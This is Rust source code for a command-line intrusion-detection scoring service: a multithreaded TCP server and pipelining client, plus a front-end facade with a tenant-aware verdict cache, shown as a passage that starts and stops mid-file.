            _ => {}
        }
        Ok(())
    }
}

/// How often the accept loop polls its nonblocking listener.
const ACCEPT_POLL: Duration = Duration::from_millis(5);

/// Shared per-connection state between its reader and writer threads.
struct Conn {
    front: Arc<Frontend>,
    /// Wire id → in-flight cache/miss layout, registered by the reader
    /// before submitting, consumed by the writer on completion.
    pending: Mutex<HashMap<u64, crate::front::CachedSubmission>>,
    /// In-flight pipelined request count + its back-pressure condvar.
    inflight: (Mutex<usize>, Condvar),
    /// Set when either side of the connection has failed.
    dead: AtomicBool,
    max_frame: usize,
    backlog: usize,
}

impl Conn {
    fn dec_inflight(&self) {
        let mut n = self.inflight.0.lock().unwrap();
        *n = n.saturating_sub(1);
        self.inflight.1.notify_all();
    }
}

/// A running TCP front-end serving a [`Frontend`] on a socket.
/// Construct with [`NetServer::spawn`] (binds from config) or
/// [`NetServer::spawn_on`] (adopts a caller-bound listener, e.g. an
/// ephemeral test port). Dropping the server stops accepting and
/// joins every connection thread; the [`Frontend`] keeps running —
/// [`NetServer::shutdown`] hands it back for reuse.
pub struct NetServer {
    front: Option<Arc<Frontend>>,
    addr: SocketAddr,
    stop: Arc<AtomicBool>,
    shutdown_req: Arc<(Mutex<bool>, Condvar)>,
    accept: Option<JoinHandle<()>>,
}

impl NetServer {
    /// Binds `config.host:config.port` and starts serving `front`.
    /// When `config.cache` is set and the front has no cache yet, one
    /// is attached here — the single switch the bench flips.
    pub fn spawn(front: Frontend, config: NetConfig) -> Result<NetServer, NetError> {
        config.validate().map_err(NetError::Serve)?;
        let listener = TcpListener::bind((config.host, config.port))?;
        Self::start(front, listener, config)
    }

    /// Starts serving on a listener the caller already bound (tests
    /// bind port 0 themselves for an ephemeral port). `config.host` /
    /// `config.port` are ignored; everything else is validated as in
    /// [`NetConfig::validate`].
    pub fn spawn_on(
        front: Frontend,
        listener: TcpListener,
        config: NetConfig,
    ) -> Result<NetServer, NetError> {
        config.validate_limits().map_err(NetError::Serve)?;
        Self::start(front, listener, config)
    }

    fn start(
        mut front: Frontend,
        listener: TcpListener,
        config: NetConfig,
    ) -> Result<NetServer, NetError> {
        if let Some(capacity) = config.cache {
            if front.cache().is_none() {
                front = front.with_cache(capacity).map_err(NetError::Serve)?;
            }
        }
        let front = Arc::new(front);
        let addr = listener.local_addr()?;
        listener.set_nonblocking(true)?;
        let stop = Arc::new(AtomicBool::new(false));
        let shutdown_req = Arc::new((Mutex::new(false), Condvar::new()));
        let accept = {
            let front = front.clone();
            let stop = stop.clone();
            let shutdown_req = shutdown_req.clone();
            std::thread::spawn(move || accept_loop(&listener, &front, &stop, &shutdown_req, config))
        };
        Ok(NetServer {
            front: Some(front),
            addr,
            stop,
            shutdown_req,
            accept: Some(accept),
        })
    }

    /// The bound address (the actual port when bound ephemeral).
    pub fn local_addr(&self) -> SocketAddr {
        self.addr
    }

    /// The served front-end (scoring, stats, snapshots stay available
    /// in-process while the server runs).
    pub fn front(&self) -> &Frontend {
        self.front.as_ref().expect("front present until shutdown")
    }

    /// Blocks until a client sends `Shutdown` (or the server is
    /// stopped some other way) — what the server example waits on
    /// before tearing down.
    pub fn wait_for_shutdown_request(&self) {
        let (lock, cv) = &*self.shutdown_req;
        let mut requested = lock.lock().unwrap();
        while !*requested && !self.stop.load(Ordering::Acquire) {
            requested = cv.wait_timeout(requested, IDLE_POLL).unwrap().0;
        }
    }

    fn stop_in_place(&mut self) {
        self.stop.store(true, Ordering::Release);
        if let Some(handle) = self.accept.take() {
            let _ = handle.join();
        }
        // Wake anything blocked in `wait_for_shutdown_request`.
        self.shutdown_req.1.notify_all();
    }

    /// Stops accepting, drains every connection (in-flight requests
    /// are answered or aborted with typed errors), joins the threads,
    /// and hands the still-running [`Frontend`] back — the bench
    /// reuses one fitted detector set across server configurations.
    pub fn shutdown(mut self) -> Frontend {
        self.stop_in_place();
        let front = self.front.take().expect("front present until shutdown");
        Arc::try_unwrap(front)
            .ok()
            .expect("all connection threads joined, no front handles remain")
    }
}

impl Drop for NetServer {
    fn drop(&mut self) {
        if self.front.is_some() {
            self.stop_in_place();
        }
    }
}

fn accept_loop(
    listener: &TcpListener,
    front: &Arc<Frontend>,
    stop: &Arc<AtomicBool>,
    shutdown_req: &Arc<(Mutex<bool>, Condvar)>,
    config: NetConfig,
) {
    let mut conns: Vec<(JoinHandle<()>, JoinHandle<()>)> = Vec::new();
    while !stop.load(Ordering::Acquire) {
        match listener.accept() {
            Ok((stream, _)) => {
                conns.retain(|(r, w)| !(r.is_finished() && w.is_finished()));
                if conns.len() >= config.max_connections {
                    refuse_busy(stream, config.max_frame, config.max_connections);
                    continue;
                }
                // A failed socket setup only loses that connection.
                if let Ok(pair) = spawn_connection(stream, front, stop, shutdown_req, &config) {
                    conns.push(pair);
                }
            }
            Err(_) => std::thread::sleep(ACCEPT_POLL),
        }
    }
    for (reader, writer) in conns {
        let _ = reader.join();
        let _ = writer.join();
    }
}

/// Best-effort typed refusal for a connection over the limit: better
/// one `Busy` frame than a silent hang the client cannot diagnose.
fn refuse_busy(mut stream: TcpStream, max_frame: usize, limit: usize) {
    let payload = encode_response(
        0,
        &WireResponse::Error {
            kind: WireErrorKind::Busy,
            message: format!("server at max_connections ({limit})"),
        },
    );
    let _ = write_frame(&mut stream, &payload, max_frame);
    let _ = stream.shutdown(Shutdown::Both);
}

fn spawn_connection(
    stream: TcpStream,
    front: &Arc<Frontend>,
    stop: &Arc<AtomicBool>,
    shutdown_req: &Arc<(Mutex<bool>, Condvar)>,
    config: &NetConfig,
) -> std::io::Result<(JoinHandle<()>, JoinHandle<()>)> {
    stream.set_nodelay(true)?;
    stream.set_read_timeout(Some(IDLE_POLL))?;
    let write_stream = stream.try_clone()?;
    let (conn_tx, conn_rx) = mpsc::channel::<ConnReply>();
    let conn = Arc::new(Conn {
        front: front.clone(),
        pending: Mutex::new(HashMap::new()),
        inflight: (Mutex::new(0), Condvar::new()),
        dead: AtomicBool::new(false),
        max_frame: config.max_frame,
        backlog: config.backlog,
    });
    let reader = {
        let conn = conn.clone();
        let stop = stop.clone();
        let shutdown_req = shutdown_req.clone();
        std::thread::spawn(move || reader_loop(stream, &conn, &conn_tx, &stop, &shutdown_req))
    };
    let writer = std::thread::spawn(move || writer_loop(write_stream, &conn, &conn_rx));
    Ok((reader, writer))
}

/// Decodes and dispatches frames from one connection. `Score` goes to
/// the micro-batching workers (after the cache); everything else is
/// answered synchronously. Exits on EOF, socket failure, server stop,
/// or a dead writer.
fn reader_loop(
    mut stream: TcpStream,
    conn: &Conn,
    conn_tx: &mpsc::Sender<ConnReply>,
    stop: &AtomicBool,
    shutdown_req: &(Mutex<bool>, Condvar),
) {
    let mut frames = FrameReader::new();
    loop {
        match frames.read_frame(&mut stream, conn.max_frame) {
            Ok(FrameEvent::Frame(payload)) => {
                if !handle_frame(&payload, conn, conn_tx, shutdown_req) {
                    break;
                }
            }
            Ok(FrameEvent::Idle) => {
                if stop.load(Ordering::Acquire) || conn.dead.load(Ordering::Acquire) {
                    break;
                }
            }
            Ok(FrameEvent::Eof) => break,
            Err(NetError::FrameTooLarge { len, max }) => {
                // The oversized frame was never buffered, so the
                // stream cannot be resynced — answer and hang up.
                let payload = encode_response(
                    0,
                    &WireResponse::Error {
                        kind: WireErrorKind::TooLarge,
                        message: format!("frame of {len} bytes exceeds max_frame {max}"),
                    },
                );
                let _ = conn_tx.send(ConnReply::Frame(payload));
                break;
            }
            Err(_) => break,
        }
    }
    let _ = stream.shutdown(Shutdown::Read);
    // Dropping `conn_tx` (our clone lives in this scope's caller) lets
    // the writer exit once the last in-flight completion lands.
}

/// Handles one decoded frame; returns `false` when the connection
/// should close.
fn handle_frame(
    payload: &[u8],
    conn: &Conn,
    conn_tx: &mpsc::Sender<ConnReply>,
    shutdown_req: &(Mutex<bool>, Condvar),
) -> bool {
    let (id, req) = match decode_request(payload) {
        Ok(decoded) => decoded,
        Err(e) => {
            // Framing is intact (the length prefix was honored), so
            // the connection survives a malformed payload: answer a
            // typed error under the id if enough of it decoded. The
            // id sits after the magic/version prefix — but only read
            // it when that prefix is valid, since a foreign or
            // old-version frame's bytes 2..10 are not our id field.
            let id = payload
                .get(2..10)
                .filter(|_| payload[..2] == [crate::wire::WIRE_MAGIC, crate::wire::WIRE_VERSION])
                .map(|b| u64::from_le_bytes(b.try_into().expect("8 bytes")))
                .unwrap_or(0);
            return send_error(
                conn_tx,
                id,
                WireErrorKind::BadRequest,
                &format!("bad request: {e}"),
            );
        }
    };
    match req {
        WireRequest::Hello => {
            let methods = conn.front.method_names().to_vec();
            send(conn_tx, id, &WireResponse::Hello { methods })
        }
        WireRequest::Score { lines } => handle_score(id, lines, conn, conn_tx),
        WireRequest::Append { lines, labels } => {
            if lines.len() != labels.len() {
                return send_error(
                    conn_tx,
                    id,
                    WireErrorKind::BadRequest,
                    &format!(
                        "one label per line required: {} lines, {} labels",
                        lines.len(),
                        labels.len()
                    ),
                );
            }
            match conn.front.append(&lines, &labels) {
                Ok(n) => send(conn_tx, id, &WireResponse::Appended(n)),
                Err(e) => send_error(conn_tx, id, WireErrorKind::from(&e), &e.to_string()),
            }
        }
        WireRequest::Snapshot => match conn.front.snapshot() {
            Ok((snapshot, skipped)) => send(
                conn_tx,
                id,
                &WireResponse::Snapshot {
                    frame: snapshot.to_bytes(),
                    skipped,
                },
            ),
            // SnapshotRace maps to Busy: the capture raced an
            // append/refit swap past the front-end's retries, and the
            // client retries like any other transient rejection.
            Err(e) => send_error(conn_tx, id, WireErrorKind::from(&e), &e.to_string()),
        },
        // Tenant-scoped requests run synchronously on the reader
        // thread like the other control-plane requests: the tenant
        // path has its own cache discipline (tenant-keyed, per-tenant
        // epochs) inside `Frontend::score_tenant`, and ordering them
        // against the same connection's appends is the useful
        // semantics.
        WireRequest::ScoreTenant { tenant, lines } => {
            match conn.front.score_tenant(crate::TenantId(tenant), &lines) {
                Ok(scores) => send(conn_tx, id, &WireResponse::Scores(scores)),
                Err(e) => send_error(conn_tx, id, tenant_error_kind(&e), &e.to_string()),
            }
        }
        WireRequest::AppendTenant {
            tenant,
            lines,
            labels,
        } => {
            if lines.len() != labels.len() {
                return send_error(
                    conn_tx,
                    id,
                    WireErrorKind::BadRequest,
                    &format!(
                        "one label per line required: {} lines, {} labels",
                        lines.len(),
                        labels.len()
                    ),
                );
            }
            match conn
                .front
                .append_tenant(crate::TenantId(tenant), &lines, &labels)
            {
                Ok(n) => send(conn_tx, id, &WireResponse::Appended(n)),
                Err(e) => send_error(conn_tx, id, tenant_error_kind(&e), &e.to_string()),
            }
        }
        WireRequest::Stats => send(conn_tx, id, &WireResponse::Stats(conn.front.stats())),
        WireRequest::Shutdown => {
            let sent = send(conn_tx, id, &WireResponse::ShuttingDown);
            let (lock, cv) = shutdown_req;
            *lock.lock().unwrap() = true;
            cv.notify_all();
            sent
        }
    }
}

/// Routes one `Score` request: back-pressure on the pipelining depth,
/// cache lookup, then either the all-hit fast path (never touches the
/// scoring queue) or a tagged submission of the misses.
fn handle_score(
    id: u64,
    lines: Vec<String>,
    conn: &Conn,
    conn_tx: &mpsc::Sender<ConnReply>,
) -> bool {
    if lines.is_empty() {
        return send(conn_tx, id, &WireResponse::Scores(Vec::new()));
    }
    // Back-pressure: a connection at its pipelining depth waits here —
    // on its own reader thread, so other connections keep flowing.
    {
        let (lock, cv) = &conn.inflight;
        let mut n = lock.lock().unwrap();
        while *n >= conn.backlog {
            if conn.dead.load(Ordering::Acquire) {
                return false;
            }
            n = cv.wait_timeout(n, IDLE_POLL).unwrap().0;
        }
        *n += 1;
    }
    match conn.front.prepare_scored(lines) {
        Submission::AllHits(scores) => {
            conn.dec_inflight();
            send(conn_tx, id, &WireResponse::Scores(scores))
        }
        Submission::InFlight(submission) => {
            let miss_lines = submission.miss_lines().to_vec();
            conn.pending.lock().unwrap().insert(id, submission);
            // A failed submit drops the `NetReply`, whose `Drop` sends
            // the abort completion — the writer answers with a typed
            // `Closed` error and cleans up `pending`, so no extra
            // error handling is needed here.
            let reply = Reply::Net(NetReply::new(conn_tx.clone(), id));
            let _ = conn.front.client().submit(miss_lines, reply);
            true
        }
    }
}

/// Wire classification of a tenant failure: engine trouble is the
/// server's fault, everything else names something wrong with the
/// request (unknown tenant, duplicate create, malformed frame).
fn tenant_error_kind(e: &crate::TenantError) -> WireErrorKind {
    match e {
        crate::TenantError::Engine(_) => WireErrorKind::Engine,
        _ => WireErrorKind::BadRequest,
    }
}

fn send(conn_tx: &mpsc::Sender<ConnReply>, id: u64, resp: &WireResponse) -> bool {
    conn_tx
        .send(ConnReply::Frame(encode_response(id, resp)))
        .is_ok()
}

fn send_error(
    conn_tx: &mpsc::Sender<ConnReply>,
    id: u64,
    kind: WireErrorKind,
    message: &str,
) -> bool {
    send(
        conn_tx,
        id,
        &WireResponse::Error {
            kind,
            message: message.to_string(),
        },
    )
}

/// Delivers completions for one connection: pre-encoded control
/// frames verbatim, scored micro-batches merged with their cache hits
/// (inserting fresh verdicts), aborted submissions as typed `Closed`
/// errors. Exits when every sender — the reader and all in-flight
/// [`NetReply`]s — is gone, so the last pipelined response is always
/// delivered even after the reader has hung up.
fn writer_loop(mut stream: TcpStream, conn: &Conn, conn_rx: &mpsc::Receiver<ConnReply>) {
    while let Ok(reply) = conn_rx.recv() {
        let frame = match reply {
            ConnReply::Frame(frame) => frame,
            ConnReply::Scored(id, result) => {
                let submission = conn.pending.lock().unwrap().remove(&id);
                conn.dec_inflight();
                let resp = match (submission, result) {
                    (Some(submission), Some(miss_scores)) => {
                        WireResponse::Scores(conn.front.complete_cached(submission, miss_scores))
                    }
                    (_, None) => WireResponse::Error {
                        kind: WireErrorKind::Closed,
                        message: "request dropped before scoring (service shut down)".into(),
                    },
                    // A completion for an id we never registered —
                    // cannot happen (registration precedes submission)
                    // but must not kill the connection if it did.
                    (None, Some(_)) => continue,
                };
                encode_response(id, &resp)
            }
        };
        if write_frame(&mut stream, &frame, conn.max_frame).is_err() {
            break;
        }
    }
    conn.dead.store(true, Ordering::Release);
    conn.inflight.1.notify_all();
    let _ = stream.shutdown(Shutdown::Both);
}

// --- client ---------------------------------------------------------

/// What the client's demux reader shares with request callers.
struct ClientShared {
    /// Wire id → the one-shot channel its caller blocks on.
    pending: Mutex<HashMap<u64, mpsc::Sender<WireResponse>>>,
    /// Set once the connection is unusable.
    closed: AtomicBool,
    /// A connection-fatal error the server sent under id 0 (`Busy`),
    /// surfaced to every caller that finds the connection closed.
    fatal: Mutex<Option<(WireErrorKind, String)>>,
}

struct ClientInner {
    /// Write half; requests serialize their frames under this lock.
    writer: Mutex<TcpStream>,
    next_id: AtomicU64,
    shared: Arc<ClientShared>,
    max_frame: usize,
    /// Kept to shut the socket down on drop, unblocking the reader.
    stream: TcpStream,
}

impl Drop for ClientInner {
    fn drop(&mut self) {
        self.shared.closed.store(true, Ordering::Release);
        let _ = self.stream.shutdown(Shutdown::Both);
    }
}

/// A pipelining client for a [`NetServer`]. Cloneable and shareable
/// across threads: every call multiplexes over the one socket with a
/// fresh correlation id, and a background reader demuxes responses to
/// their blocked callers — N threads sharing one client is exactly
/// the connection-level pipelining the server is built for.
#[derive(Clone)]
pub struct NetClient {
    inner: Arc<ClientInner>,
    methods: Arc<[String]>,
}

impl NetClient {
    /// Connects and handshakes (the `Hello` round-trip fetches the
    /// method names verdict vectors follow).
    pub fn connect(addr: SocketAddr) -> Result<NetClient, NetError> {
        Self::connect_with(addr, DEFAULT_MAX_FRAME)
    }

    /// [`Self::connect`] with an explicit frame-size limit (must match
    /// the server's to round-trip large snapshot frames).
    pub fn connect_with(addr: SocketAddr, max_frame: usize) -> Result<NetClient, NetError> {
        let stream = TcpStream::connect(addr)?;
        stream.set_nodelay(true)?;
        let writer = stream.try_clone()?;
        let mut reader = stream.try_clone()?;
        let shared = Arc::new(ClientShared {
            pending: Mutex::new(HashMap::new()),
            closed: AtomicBool::new(false),
            fatal: Mutex::new(None),
        });
        {
            // The reader holds only `ClientShared`: were it to hold
            // the `ClientInner`, the drop-side socket shutdown that
            // unblocks it could never run.
            let shared = shared.clone();
            std::thread::spawn(move || client_reader_loop(&mut reader, &shared, max_frame));
        }
        let client = NetClient {
            inner: Arc::new(ClientInner {
                writer: Mutex::new(writer),
                next_id: AtomicU64::new(1),
                shared,
                max_frame,
                stream,
            }),
            methods: Arc::from(Vec::new()),
        };
        let methods = match client.call(&WireRequest::Hello)? {
            WireResponse::Hello { methods } => methods,
            _ => {
                return Err(NetError::Protocol(
                    "Hello answered with a non-Hello response",
                ))
            }
        };
        Ok(NetClient {
            methods: methods.into(),
            ..client
        })
    }

    /// Names (registration order) the per-line score vectors follow,
    /// learned in the connect handshake.
    pub fn method_names(&self) -> &[String] {
        &self.methods
    }

    /// One request round-trip. Blocks this caller only — other
    /// threads' requests stay in flight on the same socket.
    fn call(&self, req: &WireRequest) -> Result<WireResponse, NetError> {
        let shared = &self.inner.shared;
        if shared.closed.load(Ordering::Acquire) {
            return Err(self.closed_error());
        }
        let id = self.inner.next_id.fetch_add(1, Ordering::Relaxed);
        let (tx, rx) = mpsc::channel();
        shared.pending.lock().unwrap().insert(id, tx);
        let payload = encode_request(id, req);
        {
            let mut writer = self.inner.writer.lock().unwrap();
            if let Err(e) = write_frame(&mut *writer, &payload, self.inner.max_frame) {
                shared.pending.lock().unwrap().remove(&id);
                return Err(e);
            }
        }
        match rx.recv() {
            Ok(WireResponse::Error { kind, message }) => Err(NetError::Remote { kind, message }),
            Ok(resp) => Ok(resp),
            Err(_) => Err(self.closed_error()),
        }
    }

    fn closed_error(&self) -> NetError {
        match self.inner.shared.fatal.lock().unwrap().take() {
            Some((kind, message)) => NetError::Remote { kind, message },
            None => NetError::Closed,
        }
    }

    /// Scores a batch of lines; one score vector per line, in input
    /// order.
    pub fn score_batch(&self, lines: &[String]) -> Result<Vec<Vec<f32>>, NetError> {
        match self.call(&WireRequest::Score {
            lines: lines.to_vec(),
        })? {
            WireResponse::Scores(scores) => Ok(scores),
            _ => Err(NetError::Protocol(
                "Score answered with a non-Scores response",
            )),
        }
    }

    /// Scores one line.
    pub fn score_line(&self, line: &str) -> Result<Vec<f32>, NetError> {
        let mut scores = self.score_batch(std::slice::from_ref(&line.to_string()))?;
        scores
            .pop()
            .ok_or(NetError::Protocol("empty verdict for one line"))
    }

    /// Scores a batch of lines against one tenant's private partition
    /// server-side; one score vector per line, in input order.
    pub fn score_tenant(&self, tenant: u64, lines: &[String]) -> Result<Vec<Vec<f32>>, NetError> {
        match self.call(&WireRequest::ScoreTenant {
            tenant,
            lines: lines.to_vec(),
        })? {
            WireResponse::Scores(scores) => Ok(scores),
            _ => Err(NetError::Protocol(
                "ScoreTenant answered with a non-Scores response",
            )),
        }
    }

    /// Absorbs freshly-labeled supervision into one tenant's partition
    /// server-side; returns how many detectors absorbed the batch.
    /// Bumps that tenant's cache epoch only.
    pub fn append_tenant(
        &self,
        tenant: u64,
        lines: &[String],
        labels: &[bool],
    ) -> Result<usize, NetError> {
        match self.call(&WireRequest::AppendTenant {
            tenant,
            lines: lines.to_vec(),
            labels: labels.to_vec(),
        })? {
            WireResponse::Appended(n) => Ok(n),
            _ => Err(NetError::Protocol(
                "AppendTenant answered with a non-Appended response",
            )),
        }
    }

    /// Absorbs freshly-labeled supervision server-side; returns how
    /// many detectors absorbed the batch. Bumps the server's
    /// verdict-cache epoch.
    pub fn append(&self, lines: &[String], labels: &[bool]) -> Result<usize, NetError> {
        match self.call(&WireRequest::Append {
            lines: lines.to_vec(),
            labels: labels.to_vec(),
        })? {
            WireResponse::Appended(n) => Ok(n),
            _ => Err(NetError::Protocol(
                "Append answered with a non-Appended response",
            )),
        }
    }

    /// The server's monotonic counters (verdict-cache overlay
    /// included).
    pub fn stats(&self) -> Result<ServiceStats, NetError> {
        match self.call(&WireRequest::Stats)? {
            WireResponse::Stats(stats) => Ok(stats),
            _ => Err(NetError::Protocol(
                "Stats answered with a non-Stats response",
            )),
        }
    }

    /// Captures the server's detector state as an encoded
    /// [`crate::ServiceSnapshot`] frame plus the names of detectors
    /// that were not capturable.
    pub fn snapshot_bytes(&self) -> Result<(Vec<u8>, Vec<String>), NetError> {
        match self.call(&WireRequest::Snapshot)? {
            WireResponse::Snapshot { frame, skipped } => Ok((frame, skipped)),
            _ => Err(NetError::Protocol(
                "Snapshot answered with a non-Snapshot response",
            )),
        }
    }

    /// Asks the server process to shut down cleanly (unblocks
    /// [`NetServer::wait_for_shutdown_request`]).
    pub fn shutdown_server(&self) -> Result<(), NetError> {
        match self.call(&WireRequest::Shutdown)? {
            WireResponse::ShuttingDown => Ok(()),
            _ => Err(NetError::Protocol("Shutdown answered unexpectedly")),
        }
    }
}

/// The client's demux reader: frames off the socket, responses to
/// their callers by id. On any terminal condition it marks the
/// connection closed and drops every pending sender, so blocked
/// callers observe [`NetError::Closed`] instead of hanging.
fn client_reader_loop(stream: &mut TcpStream, shared: &ClientShared, max_frame: usize) {
    let mut frames = FrameReader::new();
    loop {
        match frames.read_frame(stream, max_frame) {
            Ok(FrameEvent::Frame(payload)) => match decode_response(&payload) {
                Ok((0, WireResponse::Error { kind, message })) => {
                    // Connection-fatal server error (e.g. Busy at
                    // accept): remember it for the blocked callers.
                    *shared.fatal.lock().unwrap() = Some((kind, message));
                    break;
                }
                Ok((id, resp)) => {
                    if let Some(tx) = shared.pending.lock().unwrap().remove(&id) {
                        let _ = tx.send(resp);
                    }
                }
                // A frame that does not decode means the stream state
                // is unknowable; hanging up beats guessing.
                Err(_) => break,
            },
            Ok(FrameEvent::Idle) => {
                if shared.closed.load(Ordering::Acquire) {
                    break;
                }
            }
            Ok(FrameEvent::Eof) | Err(_) => break,
        }
    }
    shared.closed.store(true, Ordering::Release);
    shared.pending.lock().unwrap().clear();
}
