//! One facade over both scoring front-ends, with an optional verdict
//! cache in front.
//!
//! [`ScoringService`] and [`ShardRouter`] already speak the same
//! [`ServiceClient`] protocol, but callers that want "spawn the right
//! front-end for this detector set, maybe with a verdict cache" had to
//! duplicate the dispatch (`examples/streaming_score.rs` carried a
//! private copy). [`Frontend`] owns that dispatch once, and it is the
//! single place the [`VerdictCache`] is threaded into the scoring and
//! append paths — the TCP front-end (`serve::net`) serves through an
//! `Arc<Frontend>`, so the wire path and the in-process path share one
//! cache discipline and stay bit-identical.

use crate::cache::{merge_verdicts, CacheStats, VerdictCache};
use crate::lifecycle::{LifecycleConfig, LifecycleStats};
use crate::service::{ScoringService, ServeConfig, ServeError, ServiceClient, ServiceStats};
use crate::snapshot::ServiceSnapshot;
use crate::tenants::{TenantError, TenantId, TenantService};
use crate::{RouterConfig, ShardRouter};
use cmdline_ids::engine::FittedEngine;
use cmdline_ids::pipeline::IdsPipeline;
use std::sync::Arc;

/// How many times [`Frontend::snapshot`] retries a capture that raced
/// an append or refit swap before surfacing the typed
/// [`ServeError::SnapshotRace`] to the caller.
const SNAPSHOT_RETRIES: usize = 4;

enum Kind {
    Single(ScoringService),
    Sharded(ShardRouter),
}

/// A running scoring front-end — a [`ScoringService`] for unsharded
/// detector sets or a [`ShardRouter`] for sharded ones — with an
/// optional exact-match [`VerdictCache`] in front of the scoring path.
///
/// The cached scoring path is strictly layered: cache lookups happen
/// before submission, only the misses travel through the micro-batching
/// workers, and the per-line verdict vector is reassembled from hits +
/// fresh scores in input order. On exact backends a cache hit returns
/// the same bytes the scoring path produced earlier, so cache-on and
/// cache-off verdicts are bit-identical (`tests/verdict_cache.rs`);
/// every absorbed [`Frontend::append`] bumps the cache epoch, so a
/// stale verdict is never served across a detector-state change.
pub struct Frontend {
    kind: Kind,
    cache: Option<Arc<VerdictCache>>,
    tenants: Option<Arc<TenantService>>,
}

impl From<ScoringService> for Frontend {
    fn from(service: ScoringService) -> Self {
        Frontend {
            kind: Kind::Single(service),
            cache: None,
            tenants: None,
        }
    }
}

impl From<ShardRouter> for Frontend {
    fn from(router: ShardRouter) -> Self {
        Frontend {
            kind: Kind::Sharded(router),
            cache: None,
            tenants: None,
        }
    }
}

impl Frontend {
    /// Spawns the front-end matching the detector set's shard shape:
    /// a [`ShardRouter`] over `shards` worker pools when `shards > 1`
    /// (one worker per shard pool), else a plain [`ScoringService`].
    pub fn spawn(
        pipeline: IdsPipeline,
        engine: FittedEngine,
        shards: usize,
        serve: ServeConfig,
    ) -> Result<Frontend, ServeError> {
        if shards > 1 {
            let config = RouterConfig {
                shards,
                serve,
                shard_workers: 1,
            };
            Ok(ShardRouter::spawn(pipeline, engine, config)?.into())
        } else {
            Ok(ScoringService::spawn(pipeline, engine, serve)?.into())
        }
    }

    /// [`Frontend::spawn`] with the online refit lifecycle attached
    /// (see [`ScoringService::spawn_with_lifecycle`] /
    /// [`ShardRouter::spawn_with_lifecycle`]).
    pub fn spawn_with_lifecycle(
        pipeline: IdsPipeline,
        engine: FittedEngine,
        shards: usize,
        serve: ServeConfig,
        lifecycle: LifecycleConfig,
    ) -> Result<Frontend, ServeError> {
        if shards > 1 {
            let config = RouterConfig {
                shards,
                serve,
                shard_workers: 1,
            };
            Ok(ShardRouter::spawn_with_lifecycle(pipeline, engine, config, lifecycle)?.into())
        } else {
            Ok(ScoringService::spawn_with_lifecycle(pipeline, engine, serve, lifecycle)?.into())
        }
    }

    /// Attaches an exact-match verdict cache holding at most
    /// `capacity` lines. Rejects `capacity == 0` with a typed
    /// [`ServeError::InvalidConfig`] (a zero-entry cache can never
    /// hit), matching the config-validation convention.
    ///
    /// The cache's invalidation epoch *is* the front-end's
    /// detector-state counter ([`VerdictCache::with_shared_epoch`]):
    /// the inner service/router bumps it on every absorbed append and
    /// every refit swap, so cache invalidation needs no separate bump
    /// here and cannot miss a state change.
    pub fn with_cache(mut self, capacity: usize) -> Result<Frontend, ServeError> {
        if capacity == 0 {
            return Err(ServeError::InvalidConfig(
                "verdict cache capacity must be >= 1 (a zero-entry cache can never hit)".into(),
            ));
        }
        let epoch = match &self.kind {
            Kind::Single(s) => s.state_epoch_handle(),
            Kind::Sharded(r) => r.state_epoch_handle(),
        };
        self.cache = Some(Arc::new(VerdictCache::with_shared_epoch(capacity, epoch)));
        Ok(self)
    }

    /// The attached verdict cache, if any.
    pub fn cache(&self) -> Option<&Arc<VerdictCache>> {
        self.cache.as_ref()
    }

    /// Attaches a [`TenantService`] so tenant-scoped wire requests
    /// ([`Frontend::score_tenant`] / [`Frontend::append_tenant`]) have
    /// somewhere to go. The tenant map is independent of the global
    /// detector set — it carries its own partitions, tiers, and
    /// budget — but shares this front-end's verdict cache under
    /// tenant-scoped keys.
    pub fn with_tenants(mut self, tenants: Arc<TenantService>) -> Frontend {
        self.tenants = Some(tenants);
        self
    }

    /// The attached tenant map, if any.
    pub fn tenants(&self) -> Option<&Arc<TenantService>> {
        self.tenants.as_ref()
    }

    /// Scores a batch of lines against `tenant`'s private partition,
    /// through the verdict cache when one is attached. Cache entries
    /// are keyed under the tenant's namespace and validated against
    /// the tenant's own detector-state epoch, so two tenants with
    /// byte-identical lines can never serve each other's verdicts
    /// (`tests/tenants.rs` pins cache-on ≡ cache-off per tenant).
    pub fn score_tenant(
        &self,
        tenant: TenantId,
        lines: &[String],
    ) -> Result<Vec<Vec<f32>>, TenantError> {
        let svc = self.tenants.as_ref().ok_or_else(no_tenant_service)?;
        let Some(cache) = &self.cache else {
            return svc.score(tenant, lines);
        };
        if lines.is_empty() {
            return Ok(Vec::new());
        }
        let epoch = svc.epoch_of(tenant)?;
        let hits = cache.lookup_batch_tenant(tenant.0, lines, epoch);
        let miss_positions: Vec<usize> = hits
            .iter()
            .enumerate()
            .filter_map(|(i, h)| h.is_none().then_some(i))
            .collect();
        if miss_positions.is_empty() {
            return Ok(hits.into_iter().map(|h| h.expect("all hits")).collect());
        }
        let miss_lines: Vec<String> = miss_positions.iter().map(|&i| lines[i].clone()).collect();
        let miss_scores = svc.score(tenant, &miss_lines)?;
        let current = svc.epoch_of(tenant)?;
        cache.insert_batch_tenant(
            tenant.0,
            miss_lines.iter().zip(miss_scores.iter().map(Vec::as_slice)),
            epoch,
            current,
        );
        Ok(merge_verdicts(hits, &miss_positions, miss_scores))
    }

    /// Absorbs freshly-labeled supervision into `tenant`'s partition.
    /// The tenant's epoch bump invalidates its cached verdicts without
    /// touching any other tenant's entries.
    pub fn append_tenant(
        &self,
        tenant: TenantId,
        lines: &[String],
        labels: &[bool],
    ) -> Result<usize, TenantError> {
        let svc = self.tenants.as_ref().ok_or_else(no_tenant_service)?;
        svc.append(tenant, lines, labels)
    }

    /// A cloneable *uncached* submission handle straight onto the
    /// micro-batching queue — the baseline the cached path is measured
    /// (and parity-tested) against.
    pub fn client(&self) -> ServiceClient {
        match &self.kind {
            Kind::Single(s) => s.client(),
            Kind::Sharded(r) => r.client(),
        }
    }

    /// Names (registration order) the per-line score vectors follow.
    pub fn method_names(&self) -> &[String] {
        match &self.kind {
            Kind::Single(s) => s.method_names(),
            Kind::Sharded(r) => r.method_names(),
        }
    }

    /// Scores one arriving line through the cache (when attached) and
    /// the micro-batching workers.
    pub fn score_line(&self, line: &str) -> Result<Vec<f32>, ServeError> {
        let mut scores = self.score_batch(std::slice::from_ref(&line.to_string()))?;
        Ok(scores.pop().expect("one reply per line"))
    }

    /// Scores a batch of lines: cache hits are answered immediately,
    /// only the misses travel to the workers, and the reply is
    /// reassembled in input order. Without a cache this is exactly
    /// [`ServiceClient::score_batch`].
    pub fn score_batch(&self, lines: &[String]) -> Result<Vec<Vec<f32>>, ServeError> {
        let Some(cache) = &self.cache else {
            return self.client().score_batch(lines);
        };
        if lines.is_empty() {
            return Ok(Vec::new());
        }
        let (hits, epoch) = cache.lookup_batch(lines);
        let miss_positions: Vec<usize> = hits
            .iter()
            .enumerate()
